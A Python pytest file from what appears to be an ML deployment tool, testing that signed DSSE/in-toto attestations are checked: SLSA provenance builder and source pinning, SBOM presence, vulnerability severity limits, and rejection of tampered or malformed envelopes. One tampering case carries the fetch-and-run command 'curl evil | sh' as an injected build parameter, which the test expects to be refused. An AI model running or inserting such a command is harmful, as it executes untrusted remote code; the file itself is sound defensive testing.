"""DSSE/in-toto attestations: PAE, statement rules, SLSA provenance, SBOM, vulnerability scans."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from mlrollout.gates import (
    AttestationPolicy,
    GatePolicy,
    ProvenancePolicy,
    Reason,
    SignaturePolicy,
    VulnerabilityPolicy,
)
from mlrollout.gates.attestations import assess_attestations
from mlrollout.gates.dsse import compute_pae
from mlrollout.gates.oci import RegistryClient
from mlrollout.gates.policy import SLSA_PROVENANCE_V1, VULN_PREDICATE_TYPE
from mlrollout.gates.verify import fetch_verification
from mlrollout.model import ImageRef, Sha256

from .fake_registry import FakeRegistry
from .publish import (
    attestation_layer,
    envelope,
    push_attestations,
    push_image,
    push_signature,
    statement,
)
from .signer import CosignTestSigner

NOW = datetime(2025, 1, 1, tzinfo=UTC)
SIGNER = CosignTestSigner("ci")
IMAGE = ImageRef("registry.test/ml/fraud", Sha256("a" * 64))
BUILDER = "https://github.com/actions/runner/github-hosted"
REPO = "https://github.com/acme/fraud"
PROVENANCE = ProvenancePolicy(
    builder_ids=frozenset({BUILDER}),
    source_repositories=frozenset({REPO}),
    source_refs=frozenset({"refs/heads/main"}),
)
POLICY = GatePolicy(
    signature=SignaturePolicy(keys=(SIGNER.trusted(),)),
    attestations=AttestationPolicy(provenance=PROVENANCE),
)
SBOM_POLICY = replace(POLICY, attestations=AttestationPolicy(require_sbom=True))
VULN_POLICY = replace(
    POLICY, attestations=AttestationPolicy(vulnerabilities=VulnerabilityPolicy("MEDIUM"))
)


def _slsa(**overrides: Any) -> dict[str, Any]:
    workflow = {"ref": "refs/heads/main", "repository": REPO, "path": ".github/workflows/b.yml"}
    predicate: dict[str, Any] = {
        "buildDefinition": {
            "buildType": "https://actions.github.io/buildtypes/workflow/v1",
            "externalParameters": {"workflow": workflow},
            "resolvedDependencies": [],
        },
        "runDetails": {"builder": {"id": BUILDER}, "metadata": {}},
    }
    for path, value in overrides.items():
        target = predicate
        *parents, leaf = path.split("__")
        for part in parents:
            target = target[part]
        target[leaf] = value
    return predicate


def _assess(blobs: list[bytes], policy: GatePolicy = POLICY) -> Reason | None:
    layers = [attestation_layer(b) for b in blobs]
    return assess_attestations(image=IMAGE, layers=layers, policy=policy, now=NOW).reason


def _signed(predicate_type: str, predicate: dict[str, Any], **kwargs: Any) -> bytes:
    return envelope(SIGNER, statement(IMAGE, predicate_type, predicate, **kwargs))


def test_pae_matches_the_dsse_specification_example() -> None:
    assert compute_pae("http://example.com/HelloWorld", b"hello world") == (
        b"DSSEv1 29 http://example.com/HelloWorld 11 hello world"
    )


def test_good_provenance_passes() -> None:
    assert _assess([_signed(SLSA_PROVENANCE_V1, _slsa())]) is None


def test_statement_v01_is_accepted() -> None:
    assert _assess([_signed(SLSA_PROVENANCE_V1, _slsa(), v01=True)]) is None


@pytest.mark.parametrize(
    ("blob", "expected"),
    [
        (lambda: _signed("https://slsa.dev/provenance/v0.2", _slsa()), Reason.ATTESTATION_MISSING),
        (
            lambda: _signed(SLSA_PROVENANCE_V1, _slsa(), subject_digest="b" * 64),
            Reason.SUBJECT_MISMATCH,
        ),
        (
            lambda: _signed(SLSA_PROVENANCE_V1, _slsa(runDetails__builder__id="https://evil")),
            Reason.PROVENANCE_BUILDER,
        ),
        (
            lambda: _signed(
                SLSA_PROVENANCE_V1,
                _slsa(
                    buildDefinition__externalParameters__workflow__repository="https://github.com/evil/x"
                ),
            ),
            Reason.PROVENANCE_SOURCE,
        ),
        (
            lambda: _signed(
                SLSA_PROVENANCE_V1,
                _slsa(buildDefinition__externalParameters__workflow__ref="refs/heads/dev"),
            ),
            Reason.PROVENANCE_SOURCE,
        ),
        (
            lambda: _signed(
                SLSA_PROVENANCE_V1,
                _slsa(buildDefinition__externalParameters__script="curl evil | sh"),
            ),
            Reason.PROVENANCE_PARAMETERS,
        ),
        (lambda: _signed(SLSA_PROVENANCE_V1, {}), Reason.ATTESTATION_INVALID),
        (
            lambda: envelope(
                CosignTestSigner("stranger"), statement(IMAGE, SLSA_PROVENANCE_V1, _slsa())
            ),
            Reason.ATTESTATION_MISSING,
        ),
        (
            lambda: envelope(
                SIGNER, statement(IMAGE, SLSA_PROVENANCE_V1, _slsa()), payload_type="text/plain"
            ),
            Reason.ATTESTATION_MISSING,
        ),
    ],
    ids=[
        "wrong-predicate-type",
        "wrong-subject",
        "wrong-builder",
        "wrong-repository",
        "wrong-ref",
        "unknown-external-parameter",
        "empty-predicate",
        "untrusted-key",
        "wrong-payload-type",
    ],
)
def test_provenance_tampering(blob: Any, expected: Reason) -> None:
    assert _assess([blob()]) is expected


def test_without_source_refs_any_ref_of_an_allowed_repository_passes() -> None:
    """``sourceRefs`` unset allows every ref; the builder and repository stay pinned."""
    any_ref = replace(
        POLICY,
        attestations=AttestationPolicy(provenance=replace(PROVENANCE, source_refs=frozenset())),
    )
    dev = _slsa(buildDefinition__externalParameters__workflow__ref="refs/heads/dev")
    assert _assess([_signed(SLSA_PROVENANCE_V1, dev)], any_ref) is None
    elsewhere = _slsa(
        buildDefinition__externalParameters__workflow__repository="https://github.com/evil/x"
    )
    assert _assess([_signed(SLSA_PROVENANCE_V1, elsewhere)], any_ref) is Reason.PROVENANCE_SOURCE


def test_no_attestation_fails_closed() -> None:
    assert _assess([]) is Reason.ATTESTATION_MISSING


def test_annotation_cannot_claim_a_type_cve_2022_35929() -> None:
    sbom = _signed("https://spdx.dev/Document", {"spdxVersion": "SPDX-2.3"})
    layer = attestation_layer(sbom, predicate_type=SLSA_PROVENANCE_V1)
    result = assess_attestations(image=IMAGE, layers=[layer], policy=POLICY, now=NOW)
    assert result.reason is Reason.ATTESTATION_MISSING


def test_tampered_envelope_payload_is_untrusted() -> None:
    doc = json.loads(_signed(SLSA_PROVENANCE_V1, _slsa()))
    body = json.loads(base64.b64decode(doc["payload"]))
    body["predicate"]["runDetails"]["builder"]["id"] = "https://evil"
    doc["payload"] = base64.b64encode(json.dumps(body).encode()).decode()
    assert _assess([json.dumps(doc).encode()]) is Reason.ATTESTATION_MISSING


def test_url_safe_base64_envelope_is_accepted() -> None:
    doc = json.loads(_signed(SLSA_PROVENANCE_V1, _slsa()))
    raw = base64.b64decode(doc["payload"])
    doc["payload"] = base64.urlsafe_b64encode(raw).decode().rstrip("=")
    assert _assess([json.dumps(doc).encode()]) is None


@pytest.mark.parametrize(
    "mutate",
    [
        lambda d: d.update(extra=1),
        lambda d: d.pop("payloadType"),
        lambda d: d.update(signatures=[]),
        lambda d: d.update(signatures=[{"sig": "!!"}]),
    ],
    ids=["unknown-key", "missing-type", "no-signatures", "bad-base64"],
)
def test_malformed_envelopes(mutate: Any) -> None:
    doc = json.loads(_signed(SLSA_PROVENANCE_V1, _slsa()))
    mutate(doc)
    result = assess_attestations(
        image=IMAGE, layers=[attestation_layer(json.dumps(doc).encode())], policy=POLICY, now=NOW
    )
    assert result.checks[0].reason is Reason.ATTESTATION_INVALID
    assert result.reason is Reason.ATTESTATION_MISSING


@pytest.mark.parametrize(
    ("predicate_type", "expected"),
    [
        ("https://spdx.dev/Document", None),
        ("https://cyclonedx.org/bom", None),
        ("https://spdx.dev/Document/evil", Reason.SBOM_MISSING),
    ],
)
def test_sbom_required(predicate_type: str, expected: Reason | None) -> None:
    assert _assess([_signed(predicate_type, {"bom": 1})], SBOM_POLICY) is expected


def _trivy(*severities: str) -> dict[str, Any]:
    vulns = [{"VulnerabilityID": f"CVE-{i}", "Severity": s} for i, s in enumerate(severities)]
    return {"scanner": {"uri": "trivy", "result": {"Results": [{"Vulnerabilities": vulns}]}}}


@pytest.mark.parametrize(
    ("predicate", "expected"),
    [
        (_trivy("LOW", "MEDIUM"), None),
        (_trivy("LOW", "HIGH"), Reason.VULNERABILITY_FOUND),
        (_trivy("CRITICAL"), Reason.VULNERABILITY_FOUND),
        (_trivy("WEIRD"), Reason.VULNERABILITY_FOUND),
        (
            {
                "scanner": {
                    "result": {"matches": [{"vulnerability": {"id": "G", "severity": "High"}}]}
                }
            },
            Reason.VULNERABILITY_FOUND,
        ),
        ({"scanner": {"result": {"matches": []}}}, None),
        ({"scanner": {"result": {"other": []}}}, Reason.ATTESTATION_INVALID),
    ],
    ids=["below", "high", "critical", "unknown-severity", "grype-high", "grype-clean", "unknown"],
)
def test_vulnerability_threshold(predicate: dict[str, Any], expected: Reason | None) -> None:
    assert _assess([_signed(VULN_PREDICATE_TYPE, predicate)], VULN_POLICY) is expected


def test_attestations_fetched_from_a_registry() -> None:
    registry = FakeRegistry()
    digest = push_image(registry, "ml/fraud", b"x")
    image = ImageRef("registry.test/ml/fraud", digest)
    push_signature(registry, image, SIGNER)
    with RegistryClient("registry.test", transport=registry.transport) as client:
        missing = fetch_verification(image, POLICY, client=client, now=NOW)
        blob = envelope(SIGNER, statement(image, SLSA_PROVENANCE_V1, _slsa()))
        push_attestations(registry, image, [attestation_layer(blob)])
        present = fetch_verification(image, POLICY, client=client, now=NOW)
    assert missing.reason is Reason.ATTESTATION_MISSING
    assert present.verified, present.message
    assert [c.kind for c in present.checks] == ["signature", "attestation"]


@pytest.mark.parametrize(
    ("limit", "severity", "refused"),
    [("NONE", "NEGLIGIBLE", True), ("NEGLIGIBLE", "NEGLIGIBLE", False), ("LOW", "MEDIUM", True)],
)
def test_every_max_severity_of_the_spec_is_a_limit(
    limit: str, severity: str, refused: bool
) -> None:
    """``spec.gates.vulnerabilities.maxSeverity`` values, upper-cased as the gates layer gets
    them; ``none`` refuses any finding at all."""
    from mlrollout.gates.predicates import assess_vulnerabilities

    report = {
        "Results": [{"Vulnerabilities": [{"VulnerabilityID": "CVE-1", "Severity": severity}]}]
    }
    verdict = assess_vulnerabilities({"scanner": {"result": report}}, VulnerabilityPolicy(limit))
    assert (verdict is not None) == refused, verdict
